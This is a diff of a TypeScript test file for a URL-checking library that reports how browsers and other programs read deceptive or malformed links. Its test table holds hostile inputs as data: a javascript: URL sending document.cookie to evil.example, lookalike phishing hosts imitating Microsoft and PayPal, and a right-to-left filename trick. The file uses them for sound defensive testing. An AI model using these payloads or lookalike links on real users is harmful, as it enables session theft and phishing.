@@ -2,20 +2,21 @@
 
 import { dialects } from '@urlkit/url-dialects';
 import { compareReadings, living, type ReaderReading, type URLReader } from '@urlkit/url-editions';
-import { nameFindings } from '@urlkit/url-rendering';
 import { validateURL } from '@urlkit/url-validation';
 import test from 'ava';
 import fc from 'fast-check';
 import { checkProperty } from '../../../test/support/property.js';
 import { type Finding, findingsOf } from '../src/urls/findings.js';
+import { inputNames } from '../src/urls/input-names.js';
 
 function find(
   url: string,
   readers: readonly URLReader[] = [living, ...dialects],
 ): readonly Finding[] {
   const programs = compareReadings(url, readers);
+  const report = validateURL(url);
   return findingsOf(
-    { url, report: validateURL(url), programs, names: nameFindings(url) },
+    { url, report, programs, names: inputNames(url, report, null) },
     (reader) => reader,
   );
 }
@@ -38,7 +39,7 @@ const belongsTo = (imitated: string, owner: string) => [
   `bad: This name may deceive. The name begins like \`${imitated}\`, but belongs to \`${owner}\`. ${advice}`,
 ];
 const isUsername = (username: string, host: string) => [
-  `bad: This may deceive. \`${username}\` is a username; the host is \`${host}\`. ${advice}`,
+  `bad: What is before \`@\` is not the host. \`${username}\` is a username; the host is \`${host}\`. ${advice}`,
 ];
 const agree = (host: string, what: string) => [
   `plain: Programs agree. All 10 connect to \`${host}\`, ${what}.`,
@@ -54,7 +55,7 @@ const isFile = [
 const twoForms = [
   'plain: Two ways to write one name. `xn--bcher-kva.example` is how `b\u00FCcher.example` is written in ASCII. It is the same name.',
 ];
-const publicName = 'a public name (where it leads was not looked up)';
+const publicName = 'a public name (the site itself was not checked)';
 
 const table: Readonly<Record<string, readonly string[]>> = {
   // A username that looks like a host.
@@ -82,8 +83,8 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'vbscript:x': runsCode,
   "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
   'data:,x': hostless,
-  'mailto:ann@example.org': hostless,
-  'tel:+15550100': hostless,
+  'mailto:ann@example.org': ['plain: Browsers can read it. It opens a program for mail.'],
+  'tel:+15550100': ['plain: Browsers can read it. It opens a program for calls.'],
   // Schemes whose own programs connect.
   'postgres://db.example:5432/shop': isFor('postgres:', 'db.example:5432'),
   'redis://cache.example/0': isFor('redis:', 'cache.example'),
@@ -127,10 +128,10 @@ const table: Readonly<Record<string, readonly string[]>> = {
   ),
   // What is said of a host that nobody means would mislead.
   'https://www.exemple..com/': [
-    'warn: Did you mean this? `https://www.exemple.com/` (There are two dots in a row. Write one.)',
+    'warn: It probably leads nowhere. Did you mean this? `https://www.exemple.com/` (There are two dots in a row. Write one.)',
   ],
   'https://example,com/': [
-    'warn: Did you mean this? `https://example.com/` (There is a comma in the host. Perhaps it should be a dot.)',
+    'warn: It probably leads nowhere. Did you mean this? `https://example.com/` (There is a comma in the host. Perhaps it should be a dot.)',
   ],
   // What browsers refuse has no cause that readers could look for in it.
   'https://example .com': [
@@ -151,21 +152,21 @@ const table: Readonly<Record<string, readonly string[]>> = {
   ],
   'http://evil.example:99999/': [
     'bad: Browsers cannot open it. 99999 is too large: a port is at most 65535. See columns 21–25.',
-    'warn: Other programs may open it. In go, java-uri, java-url, ruby and node-url-parse, it leads to `evil.example:99999`. There, the port may be refused, or become another one.',
+    'warn: Other programs may open it. In go, java-uri, java-url, ruby and node-url-parse, it leads to `evil.example:99999`. Perhaps the port is refused, or becomes another one.',
   ],
   // What is certain comes before what is in doubt.
   'http://127.1/': [
     'warn: This is your own computer. `127.0.0.1` always means the computer that opens the link, so it works for nobody else. A server that fetches what users ask for should refuse it.',
-    'warn: Programs may disagree. In living, curl, python, urllib3, java-url, php, ruby and node-url-parse, it leads to `127.0.0.1`. In go, it leads to `127.1`. In java-uri, it has no host. In go, the number may be looked up as a name, not as an address.',
+    'warn: Programs may disagree. In living, curl, python, urllib3, java-url, php, ruby and node-url-parse, it leads to `127.0.0.1`. In go, it leads to `127.1`. In java-uri, it has no host. In go, perhaps the number is looked up as a name, not as an address.',
   ],
   'https:/user@example.org/': [
     'warn: Did you mean this? `https://user@example.org/` (Write two slashes between this scheme and the host.)',
-    'warn: Programs may disagree. In living and curl, it leads to `example.org`. In python, urllib3, go, java-uri, java-url, php, ruby and node-url-parse, it has no host. There, it may be refused, or get another host.',
+    'warn: Programs may disagree. In living and curl, it leads to `example.org`. In python, urllib3, go, java-uri, java-url, php, ruby and node-url-parse, it has no host. Perhaps it is refused, or gets another host.',
   ],
   // A name in both of its forms.
   'https://b\u00FCcher.example/': [
     ...twoForms,
-    'plain: Some programs refuse it. 7 of 10 connect to `xn--bcher-kva.example`; 1 sees no host (java-uri); 1 is not known (urllib3); 1 refuses it (ruby).',
+    'plain: Some programs refuse it. 7 of 10 connect to `xn--bcher-kva.example`; 1 sees no host (java-uri); for 1, this is not known (urllib3); 1 refuses it (ruby).',
   ],
   'https://xn--bcher-kva.example/': [
     ...twoForms,
@@ -189,9 +190,21 @@ const table: Readonly<Record<string, readonly string[]>> = {
     'warn: This name may deceive. `xn--a` is not the ASCII form of a valid name. Ask whoever wrote it for the name in its own letters.',
     'warn: Programs may disagree. In living, curl, python, urllib3, go, java-uri, java-url, php and ruby, it leads to `xn--a.example`. In node-url-parse, it is not known what happens (which IDNA Node has).',
   ],
-  // What does not parse.
+  // What is inside is said once, the worst of it.
+  'https://click.example/?redirect=https%3A%2F%2Flogin.rnicrosoft.com%2F': [
+    `bad: The URL inside may deceive. A URL is in it. It looks like \`microsoft.com\`, but is \`login.rnicrosoft.com\`. ${advice}`,
+  ],
+  // What does not parse, and what it would be.
+  'www.paypal.com.evil.example/login': [
+    'bad: It does not work as a link.',
+    ...belongsTo('paypal.com', 'evil.example'),
+    'warn: Did you mean this? `https://www.paypal.com.evil.example/login` (This looks like a host. Write a scheme before it, such as https://.)',
+  ],
+  'See https://example.org/page.': [
+    'warn: This is text with a link in it. `https://example.org/page`',
+  ],
   'example.org/a': [
-    'bad: It has no scheme.',
+    'bad: It does not work as a link.',
     'warn: Did you mean this? `https://example.org/a` (This looks like a host. Write a scheme before it, such as https://.)',
   ],
 };
@@ -273,7 +286,7 @@ test('the figures of the verdict are those of the list of programs', (t) => {
         host: figure(/(\d+) of \d+ connect/),
         none: figure(/(\d+) sees? no host/),
         failure: figure(/(\d+) refuses? it/),
-        unknown: figure(/(\d+) (?:is|are) not known/),
+        unknown: figure(/for (\d+), this is not known/),
       },
       {
         host: named('host'),
@@ -301,8 +314,8 @@ test('what may happen there is about the programs of the sentence before', (t) =
   checkProperty(t, 400, url, (input) => {
     const [doubt] = compareReadings(input, [living, ...dialects]).doubts;
     for (const said of say(input)) {
-      const [, before] = /In ([^.]*), it (?:(?!, it ).)*\. There, /.exec(said) ?? [];
-      if (!said.includes(' There, ')) continue;
+      const [, before] = /In ([^.]*), it (?:(?!, it ).)*\. Perhaps /.exec(said) ?? [];
+      if (!/^warn: (?:Programs|Other) .* Perhaps /.test(said)) continue;
       compared++;
       t.is(before?.replace(' and ', ', '), doubt?.readers.join(', '), input);
     }
@@ -331,7 +344,10 @@ test('what deceives is said before what the author may have meant', (t) => {
       url,
     );
   }
-  t.regex(say('https://evil.example/a\u202egpj.exe')[0] ?? '', /^bad: This may deceive\. /);
+  t.regex(
+    say('https://evil.example/a\u202egpj.exe')[0] ?? '',
+    /^bad: Its order on the screen may deceive\. /,
+  );
 });
 
 test('a finding gives the input as it should be, without spaces around it', (t) => {
@@ -342,7 +358,7 @@ test('a finding gives the input as it should be, without spaces around it', (t) 
 test('that the standard refuses an input matters only if a reader follows it', (t) => {
   const others = dialects.filter(({ name }) => name === 'curl' || name === 'go');
   t.deepEqual(say(':', others), ['bad: No program accepts it.']);
-  t.regex(say(':')[0] ?? '', /^bad: It has no scheme\. /);
+  t.regex(say(':')[0] ?? '', /^bad: It is not a whole URL\. /);
 });
 
 test('without a comparison, the host is what the standard says, and programs may differ', (t) => {
